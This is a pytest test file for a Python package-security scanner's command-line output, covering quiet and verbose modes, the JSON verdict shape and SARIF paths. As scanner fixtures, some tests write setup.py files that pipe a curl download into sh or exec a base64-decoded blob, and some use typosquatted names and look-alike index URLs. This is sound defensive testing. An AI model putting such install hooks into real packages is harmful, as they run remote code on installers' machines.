"""Output that fits terminals, pipes and CI logs: no wrapping, -q, -v, one JSON shape, usage."""

from __future__ import annotations

import argparse
import importlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from pycustoms.cli import SUBCOMMANDS, main
from tests.builders import build_sdist
from tests.fake_upstream import FakeUpstream
from tests.jsondoc import decision, load, results

BAD_SETUP = (
    "import base64\n"
    "from setuptools import setup\n"
    "blob = 'cHJpbnQoJ2hlbGxvJyk='\n"
    "exec(base64.b64decode(blob))\n"
    "setup(name='tidy', version='1.0')\n"
)
LONG_NAME = "python-dateutil-" + "-".join(["extended"] * 12)
LOOKALIKE = "https://packages.exarnple.org/simple/"
LONG_URL = "https://packages.example.org/" + "/".join(["very-long-segment"] * 8) + "/simple/"


def _pipe(*argv: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """Run pycustoms with stdout and stderr as pipes, as in `... | cat` or a CI log."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYCUSTOMS_")}
    env.pop("COLUMNS", None)
    return subprocess.run(
        [sys.executable, "-m", "pycustoms", *argv],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=120,
        check=False,
    )


def _line_with(text: str, needle: str) -> str:
    [line] = [line for line in text.splitlines() if needle in line]
    return line


# -- nothing is wrapped or cut in a pipe ---------------------------------------------------


def test_names_and_urls_are_never_cut_or_wrapped_in_a_pipe(tmp_path: Path) -> None:
    """Before: `python-dateut…` for two different names, URLs broken at 80 columns."""
    other = LONG_NAME[:-1] + "x"
    names = _pipe("check-name", LONG_NAME, other, "reqeusts", cwd=tmp_path)
    assert names.returncode == 1, names.stderr
    assert "…" not in names.stdout
    assert f" {LONG_NAME} " in _line_with(names.stdout, LONG_NAME)
    assert f" {other} " in _line_with(names.stdout, other)
    # The reason of a finding stays on its row, whole.
    assert "imitates 'requests'" in _line_with(names.stdout, "reqeusts ")
    urls = _pipe("check-index", "--no-pip-config", LONG_URL, "https://pypj.org/simple/")
    assert "…" not in urls.stdout
    assert LONG_URL in _line_with(urls.stdout, "very-long-segment")


def test_scan_keeps_paths_rule_ids_and_snippets_whole_in_a_pipe(tmp_path: Path) -> None:
    folder = tmp_path / ("a-source-tree-with-a-long-name-" + "x" * 60)
    folder.mkdir()
    url = "http://203.0.113.7/" + "/".join(["payload-stage"] * 8) + "/run.sh"
    (folder / "setup.py").write_text(f'import os\nos.system("curl {url} | sh")\n')
    proc = _pipe("scan", folder.name, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert "…" not in proc.stdout
    assert folder.name in _line_with(proc.stdout, "block ")
    assert url in proc.stdout  # the snippet, on one line
    findings = [line.split() for line in proc.stdout.splitlines() if line.startswith("  ")]
    rules = [words[1] for words in findings if words[0] in {"low", "medium", "high", "critical"}]
    assert "code/download-command" in rules  # the rule id, whole


# -- -q/--quiet on every command -----------------------------------------------------------


def _leaf_parsers(parser: argparse.ArgumentParser, prog: str) -> list[tuple[str, Any]]:
    leaves: list[tuple[str, Any]] = []
    nested = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    for action in nested:
        for name, child in action.choices.items():
            leaves += _leaf_parsers(child, f"{prog} {name}")
    return leaves or [(prog, parser)]


def test_every_command_has_quiet_and_verbose() -> None:
    found = []
    for name, (module_name, _) in SUBCOMMANDS.items():
        sub = argparse.ArgumentParser().add_subparsers()
        importlib.import_module(module_name).register(sub)
        found += _leaf_parsers(sub.choices[name], name)
    assert len(found) > len(SUBCOMMANDS)  # db, token and trust have subcommands
    for prog, parser in found:
        flags = {flag for action in parser._actions for flag in action.option_strings}
        assert {"-q", "--quiet", "-v", "--verbose"} <= flags, prog


def test_quiet_and_verbose_exclude_each_other(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        main(["check-name", "-q", "-v", "requests"])
    assert exc.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err


def test_quiet_scan_prints_one_verdict_per_target(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    sdist = build_sdist(tmp_path, "tidy", "1.0", {"setup.py": BAD_SETUP})
    clean = tmp_path / "tool.py"
    clean.write_text("print('hi')\n")
    assert main(["scan", "-q", sdist.name, clean.name]) == 1
    out, err = capsys.readouterr()
    assert out == f"block\t{sdist.name}\nallow\ttool.py\n"
    assert err == ""
    # Errors are still said.
    assert main(["scan", "-q", "absent.whl"]) == 3
    out, err = capsys.readouterr()
    assert out == ""
    assert "absent.whl" in err
    # Data formats are unchanged by -q.
    assert main(["scan", "-q", "--format", "json", sdist.name]) == 1
    assert decision(results(capsys.readouterr().out, "scan")[0]) == "block"


def test_quiet_check_name_and_check_index(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check-name", "--quiet", "reqeusts", "requests"]) == 1
    assert capsys.readouterr() == ("block\treqeusts\nallow\trequests\n", "")
    argv = ["--no-pip-config", "--trusted-host", "packages.example.org", LOOKALIKE]
    assert main(["check-index", "-q", *argv]) == 1
    assert capsys.readouterr() == (f"block\t{LOOKALIKE}\n", "")
    # A look-alike index in a requirements file fails the run: said under -q too.
    config = tmp_path / "pycustoms.toml"
    config.write_text('trusted-hosts = ["packages.example.org"]\n')
    req = tmp_path / "requirements.txt"
    req.write_text(f"--index-url {LOOKALIKE}\nrequests\n")
    assert main(["check-name", "-q", "--config", str(config), "-r", str(req)]) == 1
    out, err = capsys.readouterr()
    assert out == "allow\trequests\n"
    assert f"{req}:1:" in err


def test_quiet_inspect(
    fake_upstream: FakeUpstream, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_upstream.add_project("calm", owners=["someone"])
    fake_upstream.add_release("calm", "1.0", uploaded=_days_ago(400))
    argv = ["inspect", "calm==1.0", "--index-url", fake_upstream.url,
            "--data-dir", str(tmp_path / "data")]  # fmt: skip
    assert main([*argv, "-q"]) == 0
    assert capsys.readouterr() == ("allow\tcalm 1.0\n", "")
    assert main([*argv, "-v"]) == 0
    assert "index " in capsys.readouterr().err  # what -q leaves out


def test_quiet_token_and_db_say_only_data_and_errors(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = ["--data-dir", str(tmp_path / "data")]
    assert main(["token", "create", "ci", "-q", *data]) == 0
    out, err = capsys.readouterr()
    assert len(out.strip()) > 20
    assert "\n" not in out.strip()
    assert err == ""
    assert main(["token", "revoke", "ci", "-q", *data]) == 0
    assert capsys.readouterr() == ("", "")
    assert main(["token", "revoke", "ci", *data]) == 2
    assert "no valid token named 'ci'" in capsys.readouterr().err
    assert main(["token", "revoke", "ci", "-q", *data]) == 2
    assert "no valid token named 'ci'" in capsys.readouterr().err  # an error: still said
    records = tmp_path / "osv"
    records.mkdir()
    (records / "PYSEC-1.json").write_text(json.dumps(_osv_record()))
    assert main(["db", "import-osv", str(records), *data]) == 0
    assert "imported 1 records" in capsys.readouterr().err
    assert main(["db", "import-osv", "-q", str(records), *data]) == 0
    assert capsys.readouterr() == ("", "")
    assert main(["db", "status", "-q", "--format", "json", *data]) == 0
    assert load(capsys.readouterr().out, "db-status")["imported_records"] >= 1


def test_quiet_trust_and_completion_print_only_their_data(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["trust", "show", "-q", "--data-dir", str(tmp_path / "data")]) == 0
    out, err = capsys.readouterr()
    assert "sha256 " in out
    assert err == ""
    assert main(["completion", "bash", "-q"]) == 0
    assert "complete" in capsys.readouterr().out


def test_quiet_provenance_prints_the_status_and_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    wheel.write_bytes(b"not a real wheel: only its sha256 is compared")
    document = tmp_path / "provenance.json"
    document.write_text("{}")
    argv = ["provenance", str(wheel), "--provenance", str(document),
            "--data-dir", str(tmp_path / "data")]  # fmt: skip
    assert main(argv) == 1
    assert "reason:" in capsys.readouterr().out
    assert main([*argv, "-q"]) == 1
    assert capsys.readouterr() == (f"invalid\t{wheel.name}\n", "")
    assert main([*argv, "--format", "json"]) == 1
    assert load(capsys.readouterr().out, "provenance")["status"] == "invalid"


def _days_ago(days: int) -> Any:
    from datetime import UTC, datetime, timedelta  # noqa: PLC0415 - only this helper

    return datetime.now(UTC) - timedelta(days=days)


def _osv_record() -> dict[str, Any]:
    return {
        "id": "PYSEC-1",
        "modified": "2026-01-01T00:00:00Z",
        "summary": "a test advisory",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "calm"}, "versions": ["0.1"]}],
    }


# -- -v shows what an allow with a score stands on -----------------------------------------


def test_verbose_shows_the_findings_behind_an_allow_with_a_score(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: an allow with a score showed its findings only in JSON."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "pycustoms.toml").write_text('[severity]\n"code/exec-decoded-payload" = "low"\n')
    tree = tmp_path / "tidy"
    tree.mkdir()
    (tree / "setup.py").write_text(BAD_SETUP)
    assert main(["scan", "--format", "json", "tidy"]) == 0
    [doc] = results(capsys.readouterr().out, "scan")
    assert decision(doc) == "allow"
    assert doc["verdict"]["score"] > 0
    assert main(["scan", "tidy"]) == 0
    out = capsys.readouterr().out
    assert "code/exec-decoded-payload" not in out
    assert "-v shows them" in out
    assert main(["scan", "-v", "tidy"]) == 0
    out = capsys.readouterr().out
    assert "ALLOW tidy (score" in out
    assert "code/exec-decoded-payload" in out
    assert "setup.py:4" in out


# -- one verdict shape, a schema on every document ----------------------------------------

VERDICT_KEYS = {"decision", "score", "reasons", "findings"}
FINDING_KEYS = {"rule", "severity", "message", "file", "line", "snippet", "confidence"}


def test_every_verdict_has_one_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sdist = build_sdist(tmp_path, "tidy", "1.0", {"setup.py": BAD_SETUP})
    main(["scan", "--format", "json", str(sdist)])
    scan = results(capsys.readouterr().out, "scan")[0]["verdict"]
    main(["check-name", "--format", "json", "reqeusts"])
    name = results(capsys.readouterr().out, "check-name")[0]["verdict"]
    main(["check-index", "--no-pip-config", "--trusted-host", "packages.example.org",
          "--format", "json", LOOKALIKE])  # fmt: skip
    index = results(capsys.readouterr().out, "check-index")[0]["verdict"]
    for verdict in (scan, name, index):
        assert set(verdict) == VERDICT_KEYS
        assert verdict["decision"] == "block"
        assert isinstance(verdict["score"], int)
        assert verdict["reasons"]
        assert all(set(f) == FINDING_KEYS for f in verdict["findings"])


def test_docs_describe_every_schema() -> None:
    text = (Path(__file__).resolve().parents[2] / "docs" / "json.md").read_text(encoding="utf-8")
    source = Path(__file__).resolve().parents[2] / "src" / "pycustoms"
    named = set()
    for path in source.rglob("*.py"):
        body = path.read_text(encoding="utf-8")
        start = 0
        while (at := body.find('document("', start)) >= 0:
            start = at + len('document("')
            named.add(body[start : body.index('"', start)])
    assert {"scan", "check-name", "check-index", "inspect", "audit", "incident"} <= named
    for command in named:
        assert f"`pycustoms/{command}/1`" in text, command


# -- SARIF locations relative to the scanned root -----------------------------------------


def _sarif(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[str, list[dict[str, Any]]]:
    assert main(["scan", "--format", "sarif", *argv]) == 1
    [run] = json.loads(capsys.readouterr().out)["runs"]
    root = run["originalUriBaseIds"]["%SRCROOT%"]["uri"]
    return root, [r["locations"][0] for r in run["results"]]


def _uris(locations: list[dict[str, Any]]) -> set[str]:
    found = set()
    for location in locations:
        artifact = location["physicalLocation"]["artifactLocation"]
        assert artifact["uriBaseId"] == "%SRCROOT%"
        assert not artifact["uri"].startswith(("/", "..", "./")), artifact
        found.add(artifact["uri"])
    return found


def test_sarif_of_a_directory_is_relative_to_the_scanned_root(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = tmp_path / "repo"
    (repo / "pkg").mkdir(parents=True)
    (repo / "pkg" / "setup.py").write_text(BAD_SETUP)
    # From the repository's root: paths of the repository.
    monkeypatch.chdir(repo)
    root, locations = _sarif(capsys, "pkg")
    assert root == repo.as_uri() + "/"
    assert _uris(locations) == {"pkg/setup.py"}
    # `scan .` (before: `repo/pkg/setup.py`, under the repository's own name).
    root, locations = _sarif(capsys, ".")
    assert (root, _uris(locations)) == (repo.as_uri() + "/", {"pkg/setup.py"})
    # From elsewhere: relative to the directory scanned, which the run names.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    root, locations = _sarif(capsys, str(repo / "pkg"))
    assert root == (repo / "pkg").as_uri() + "/"
    assert _uris(locations) == {"setup.py"}
    assert any(loc["physicalLocation"].get("region", {}).get("startLine") for loc in locations)


def test_sarif_of_an_archive_points_at_the_archive_and_names_the_member(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    dist = tmp_path / "dist"
    dist.mkdir()
    sdist = build_sdist(dist, "tidy", "1.0", {"setup.py": BAD_SETUP})
    monkeypatch.chdir(tmp_path)
    root, locations = _sarif(capsys, str(sdist))  # an absolute path below the root
    assert root == tmp_path.as_uri() + "/"
    assert _uris(locations) == {f"dist/{sdist.name}"}
    members = {loc["logicalLocations"][0]["fullyQualifiedName"] for loc in locations}
    assert any(m.startswith("setup.py") for m in members)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    root, locations = _sarif(capsys, str(sdist))
    assert (root, _uris(locations)) == (dist.as_uri() + "/", {sdist.name})


# -- a subcommand's bad flag prints that subcommand's usage ---------------------------------


@pytest.mark.parametrize(
    ("argv", "usage"),
    [
        (["audit", "--bogus"], "usage: pycustoms audit "),
        (["scan", "x.whl", "--bogus"], "usage: pycustoms scan "),
        (["db", "update", "--bogus"], "usage: pycustoms db update "),
        (["token", "create", "ci", "--bogus"], "usage: pycustoms token create "),
        (["--bogus"], "usage: pycustoms [-h]"),
    ],
)
def test_a_bad_flag_prints_its_commands_usage(
    argv: list[str], usage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exc:
        main(argv)
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith(usage), err
    assert "unrecognized arguments: --bogus" in err
